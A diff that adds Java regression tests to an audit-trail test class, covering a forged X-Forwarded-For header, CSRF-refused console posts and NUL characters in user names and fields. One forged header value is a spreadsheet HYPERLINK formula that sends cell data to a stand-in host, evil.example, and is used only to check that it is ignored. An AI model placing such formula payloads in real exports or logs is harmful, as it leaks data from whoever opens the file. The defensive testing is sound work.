@@ -6,10 +6,17 @@ import static org.assertj.core.api.Assertions.assertThatThrownBy;
 import io.runway.worker.audit.AuditRecord;
 import io.runway.worker.audit.AuditTrail;
 import io.zonky.test.db.postgres.embedded.EmbeddedPostgres;
+import java.net.URI;
+import java.net.http.HttpClient;
+import java.net.http.HttpRequest;
+import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
 import java.sql.SQLException;
+import java.time.Duration;
 import java.time.Instant;
 import java.time.temporal.ChronoUnit;
 import java.util.ArrayList;
+import java.util.Base64;
 import java.util.List;
 import java.util.Map;
 import java.util.concurrent.CountDownLatch;
@@ -137,6 +144,28 @@ class AuditTrailTest extends ApiTestSupport {
         .matches("\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{6}Z"));
   }
 
+  /** F3: any loopback or private client's X-Forwarded-For was believed and stored as it was sent. */
+  @Test
+  void aForwardedAddressFromAClientThatIsNoTrustedProxyIsIgnored() throws Exception {
+    Instant start = Instant.now();
+    String key = uniqueKey("audit-xff");
+    HttpRequest forged = HttpRequest.newBuilder(URI.create("http://localhost:" + port + "/api/v1/initiatives/" + key))
+        .header("X-Forwarded-For", "=HYPERLINK(\"http://evil.example/?leak=\"&A1;\"click\")")
+        .header("X-Forwarded-Proto", "https")
+        .header("Authorization", "Basic " + Base64.getEncoder().encodeToString("auditor-1:wrong".getBytes(StandardCharsets.UTF_8)))
+        .timeout(Duration.ofSeconds(60)).GET().build();
+
+    HttpResponse<String> refused = HttpClient.newHttpClient().send(forged, HttpResponse.BodyHandlers.ofString());
+
+    assertThat(refused.statusCode()).isEqualTo(401);
+    assertThat(refused.headers().firstValue("Strict-Transport-Security")).as("not HTTPS on a forged header's word").isEmpty();
+    // a refused read is recorded just after its answer is sent (only commands are held until recorded)
+    Predicate<JsonNode> theRead = e -> e.path("action").asString().equals("GET /api/v1/initiatives/" + key);
+    await("the refused read in the audit trail", () -> entriesSince(start), entries -> entries.stream().anyMatch(theRead));
+    JsonNode entry = only(entriesSince(start), theRead);
+    assertThat(entry.path("sourceAddress").asString()).isEqualTo("127.0.0.1");
+  }
+
   @Test
   void webhookVerdictsAreRecordedAsTheSendersOutcome() {
     Instant start = Instant.now();
@@ -159,6 +188,51 @@ class AuditTrailTest extends ApiTestSupport {
     JsonNode refused = only(entries, e -> e.path("detail").asString().contains(forgedId));
     assertThat(refused.path("outcome").asString()).isEqualTo("REJECTED_SIGNATURE");
     assertThat(refused.path("httpStatus").asInt()).isEqualTo(401);
+    assertThat(refused.path("actor").asString()).as("F5: only a verified delivery speaks for its source")
+        .isEqualTo("anonymous");
+    assertThat(refused.path("detail").asString()).contains("claims to be from jira");
+  }
+
+  /** F5: a console post refused by the CSRF check was recorded as anonymous although its session was signed in. */
+  @Test
+  void aConsolePostRefusedForItsCsrfTokenIsRecordedAsTheSessionsUser() {
+    Instant start = Instant.now();
+    ConsoleSession session = ConsoleSession.signIn(port, "program-office-2");
+    String key = uniqueKey("audit-csrf");
+
+    var refused = session.postRaw("/console/initiatives/" + key + "/withdraw", "reason=forged",
+        Map.of("Content-Type", "application/x-www-form-urlencoded"));
+
+    assertThat(refused.statusCode()).isEqualTo(403);
+    JsonNode entry = only(entriesSince(start), e -> e.path("action").asString().endsWith(key + "/withdraw"));
+    assertThat(entry.path("actor").asString()).isEqualTo("program-office-2");
+    assertThat(entry.path("actorRoles").asString()).isEqualTo("program-office");
+    assertThat(entry.path("outcome").asString()).isEqualTo("FORBIDDEN");
+  }
+
+  /** F5: a NUL in a Basic user name or an enum value made the audit insert fail (401 unrecorded, 503 instead of 422). */
+  @Test
+  void controlCharactersInWhatARequestCarriesAreRefusedAtTheEdgeAndRecorded() {
+    Instant start = Instant.now();
+    String key = uniqueKey("audit-nul");
+
+    Api.Response nulUser = api.get("nul\u0000user:demo", "/api/v1/initiatives/" + key);
+    Map<String, Object> body = new java.util.LinkedHashMap<>(completeLaunch(key, "LIMITED"));
+    body.put("riskTier", "HIGH\u0000");
+    Api.Response nulTier = api.post(PROGRAM_OFFICE, "/api/v1/initiatives", body);
+
+    assertProblem(nulUser, 400);
+    assertThat(nulUser.detail()).contains("user name").contains("U+0000");
+    assertProblem(nulTier, 422);
+    List<JsonNode> entries = entriesSince(start);
+    JsonNode user = only(entries, e -> e.path("action").asString().equals("GET /api/v1/initiatives/" + key));
+    assertThat(user.path("httpStatus").asInt()).isEqualTo(400);
+    assertThat(user.path("detail").asString()).contains("credentials of 'nul\\u0000user'");
+    JsonNode tier = only(entries, e -> e.path("action").asString().equals("POST /api/v1/initiatives")
+        && e.path("initiativeKey").isNull() && e.path("detail").asString().contains("riskTier"));
+    assertThat(tier.path("httpStatus").asInt()).isEqualTo(422);
+    assertThat(api.get("auditor-1", "/api/v1/initiatives/" + key).status()).as("nothing launched").isEqualTo(404);
+    assertThat(verify().path("ok").asBoolean()).isTrue();
   }
 
   @Test
